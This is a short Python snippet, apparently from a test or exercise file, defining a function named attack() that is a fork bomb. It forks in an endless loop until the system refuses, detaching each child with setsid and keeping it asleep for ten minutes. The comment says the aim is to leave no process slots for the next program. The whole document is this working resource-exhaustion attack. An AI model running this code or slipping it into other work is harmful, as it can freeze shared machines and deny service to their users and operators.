# Forks until it cannot and keeps all children asleep, so that the next program finds no process left.
def attack():
    import posix
    import time

    try:
        while True:
            if posix.fork() == 0:
                posix.setsid()
                time.sleep(600)
    except OSError:
        pass
    return False
